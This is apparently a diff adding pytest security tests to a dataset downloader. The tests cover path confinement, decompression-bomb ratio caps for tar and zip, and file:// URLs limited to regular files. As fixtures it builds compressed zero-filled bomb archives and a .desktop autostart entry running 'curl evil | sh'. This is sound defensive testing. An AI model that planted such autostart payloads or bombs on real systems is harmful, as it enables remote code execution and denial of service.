@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import hashlib
 import io
+import os
 import tarfile
 import zipfile
 from pathlib import Path
@@ -123,8 +124,11 @@ def test_path_dot_dot_cannot_reach_the_users_folders(served, tmp_path):
     yaml_file = home / "Downloads" / "x" / "data.yaml"
     yaml_file.write_text(f"path: ../..\n{HEADER}download: {server.url('evil.zip')}\n")
     before = _tree(home)
-    with pytest.raises(DatasetError, match=r"into .*home: the folder exists and holds no completed detrain download"):
+    with pytest.raises(DatasetError, match=r"path: .*home is outside the yaml's folder and the datasets folder"):
         load_dataset_yaml(yaml_file)
+    # with download_anywhere=true the second line of defence holds: a folder with files is never written into
+    with pytest.raises(DatasetError, match=r"into .*home: the folder exists and holds no completed detrain download"):
+        load_dataset_yaml(yaml_file, limits=DownloadLimits(anywhere=True))
     assert _tree(home) == before and server.hits == []
 
 
@@ -402,3 +406,111 @@ def test_the_cfg_caps_reach_the_download(served, tmp_path):
     ):
         load_split(cfg.inputs.data, "train", cfg, verbose=False)
     assert not (tmp_path / "toy").exists()
+
+
+# ---- issue 25, item 4: ratio cap for tar (and zip), file:// regular files only, path: confined -------------------
+
+
+class _Zeros(io.RawIOBase):
+    """``size`` zero bytes read in chunks: a member's data without holding it in memory."""
+
+    def __init__(self, size: int) -> None:
+        self.left = size
+
+    def readable(self) -> bool:
+        return True
+
+    def readinto(self, buf) -> int:  # type: ignore[override]
+        n = min(len(buf), self.left)
+        buf[:n] = bytes(n)
+        self.left -= n
+        return n
+
+
+def test_a_tar_bomb_under_the_absolute_caps_is_refused_by_its_ratio(served, tmp_path):
+    """120 MB of zeros gzip to about 120 KB: under every absolute cap, a thousand times its size unpacked."""
+    server, www = served
+    with tarfile.open(www / "bomb.tar.gz", "w:gz", compresslevel=9) as tf:
+        info = tarfile.TarInfo("toy/zeros.bin")
+        info.size = 120 * 10**6
+        tf.addfile(info, io.BufferedReader(_Zeros(info.size)))
+    packed = (www / "bomb.tar.gz").stat().st_size
+    assert packed < 10**6
+    with pytest.raises(DatasetError, match=rf"its {packed} bytes unpack to at least 120000000 bytes, over 200 times"):
+        download_dataset(server.url("bomb.tar.gz"), tmp_path / "toy", progress=False)
+    assert not (tmp_path / "toy").exists()
+    with zipfile.ZipFile(www / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as zf, zf.open("toy/a.bin", "w") as member:
+        for _ in range(101):  # 101 MB of zeros, written a megabyte at a time
+            member.write(bytes(10**6))
+    with pytest.raises(DatasetError, match="over 200 times its size"):  # a zip is held to the same ratio
+        download_dataset(server.url("bomb.zip"), tmp_path / "toy", progress=False)
+    assert not (tmp_path / "toy").exists()
+
+
+def test_an_archive_that_compresses_like_a_dataset_is_not_refused_by_the_ratio(served, tmp_path):
+    server, www = served
+    _tar(www / "toy.tar.gz", {"toy/labels/a.txt": b"0 0.5 0.5 0.1 0.1\n" * 1000, "toy/images/a.jpg": b"x" * 1000})
+    download_dataset(server.url("toy.tar.gz"), tmp_path / "toy", progress=False)
+    assert (tmp_path / "toy" / "labels" / "a.txt").is_file()
+
+
+def _in_thread(call, fifo: Path):
+    """``call()``'s exception in a thread; should it wait on ``fifo``, the writer's end is opened to free it and
+    the test fails instead of hanging."""
+    import threading
+
+    outcome: list[BaseException] = []
+
+    def run() -> None:
+        try:
+            call()
+        except BaseException as e:  # noqa: BLE001  (handed to the test)
+            outcome.append(e)
+
+    worker = threading.Thread(target=run, daemon=True)
+    worker.start()
+    worker.join(20)
+    if worker.is_alive():
+        with open(fifo, "wb"):
+            pass
+        worker.join(20)
+        pytest.fail("the download waited on a FIFO")
+    return outcome[0] if outcome else None
+
+
+@pytest.mark.parametrize("kind", ["fifo", "device"])
+def test_file_urls_read_regular_files_only(tmp_path, kind):
+    if kind == "fifo":
+        source = tmp_path / "data.zip"
+        os.mkfifo(source)
+    else:
+        source = Path("/dev/zero")
+    small = DownloadLimits(max_bytes=10**6)  # a regression that streams /dev/zero stops at a megabyte
+    error = _in_thread(
+        lambda: download_dataset(source.as_uri(), tmp_path / "toy", progress=False, timeout_s=5, limits=small), source
+    )
+    said = "a FIFO, not a regular file" if kind == "fifo" else "a character device, not a regular file"
+    assert isinstance(error, DatasetError) and said in str(error), error
+    assert not (tmp_path / "toy").exists()
+
+
+def test_a_file_url_to_a_regular_file_still_works(tmp_path):
+    archive = _zip(tmp_path / "toy.zip", TOY)
+    download_dataset(archive.as_uri(), tmp_path / "toy", progress=False)
+    assert (tmp_path / "toy" / "images" / "val" / "b.jpg").read_bytes() == b"jpg-b"
+
+
+def test_path_outside_the_yamls_folder_is_not_filled(served, tmp_path):
+    """The reported attack: ``path:`` naming a new folder elsewhere (an autostart folder) received a file."""
+    server, www = served
+    (www / "evil.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
+    autostart = tmp_path / "home" / ".config" / "autostart"
+    (tmp_path / "project").mkdir()
+    yaml_file = tmp_path / "project" / "data.yaml"
+    yaml_file.write_text(f"path: {autostart}\n{HEADER}download: {server.url('evil.desktop')}\n")
+    with pytest.raises(DatasetError, match=r"path: .*autostart is outside the yaml's folder and the datasets folder"):
+        load_dataset_yaml(yaml_file)
+    assert not autostart.exists() and server.hits == []
+    yaml_file.write_text(f"path: {tmp_path / 'project' / 'toy'}\n{HEADER}download: {server.url('toy.zip')}\n")
+    _zip(www / "toy.zip", TOY)
+    assert load_dataset_yaml(yaml_file).train  # inside the yaml's folder: fetched
